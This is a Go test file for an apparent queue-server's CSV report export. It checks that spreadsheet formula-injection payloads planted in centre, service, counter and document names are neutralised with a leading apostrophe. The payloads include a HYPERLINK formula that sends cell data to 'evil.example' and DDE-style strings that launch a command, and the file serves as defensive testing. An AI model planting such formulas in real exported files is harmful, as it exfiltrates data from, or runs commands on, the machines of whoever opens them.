package httpapi_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"
	"xephang/queue-server/apiv1"
)

// TestReportCSVNeutralisesFormulas puts formulas into every kind of free
// text that reaches the report CSV (centre, service and counter names, a
// pre-check's procedure and document names) and reads the CSV back: no
// cell begins with = + - @, a tab or a carriage return, and each injected
// text is there behind an apostrophe.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	c, err := e.admin.Centre(ctx, centreID)
	must(t, err)
	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	c.Services[0].Name = `+cmd|' /C calc'!A0`
	c.Counters[0].Name = "@SUM(1+1)*cmd|' /C calc'!A0"
	_, err = e.admin.PutCentre(ctx, c)
	must(t, err)
	tk, err := e.clerk.Issue(ctx, centreID, apiv1.IssueRequest{Service: "A"})
	must(t, err)
	must(t, e.clerk.AttachPrecheck(ctx, tk.ID, map[string]any{
		"procedure": "\t=1+2", "ok": false, "fields": map[string]any{},
		"documents": []map[string]any{{"name": "-2+3", "status": "missing", "pages": []int{}, "reasons": []string{}}, {"name": "\r=3+4", "status": "present", "pages": []int{1}, "reasons": []string{}}},
	}))
	e.clerk.Next(ctx, centreID, 1)
	e.clerk.Next(ctx, centreID, 1)

	today := time.Now().In(hcm).Format(time.DateOnly)
	req, _ := http.NewRequest("GET", e.srv.URL+"/api/v1/centres/"+centreID+"/reports?format=csv&period=day&date="+today, nil)
	req.Header.Set("Authorization", "Bearer "+e.admin.Token)
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("CSV %d: %s", resp.StatusCode, body)
	}
	rd := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	must(t, err)
	seen := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isPlainNumber(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
			seen[cell] = true
		}
	}
	for _, want := range []string{"'" + c.Services[0].Name, "'" + c.Counters[0].Name, "'-2+3", "'=3+4", "'\t=1+2"} { // the report trims "\r=3+4" to "=3+4"
		if !seen[want] {
			t.Errorf("no cell %q in the CSV", want)
		}
	}
	if !strings.Contains(string(body), `'=HYPERLINK(`) {
		t.Error("the centre's name is not in the CSV, neutralised")
	}
}

func isPlainNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	if s == "" {
		return false
	}
	dot := false
	for i, r := range s {
		switch {
		case r >= '0' && r <= '9':
		case r == '.' && !dot && i > 0 && i < len(s)-1:
			dot = true
		default:
			return false
		}
	}
	return true
}
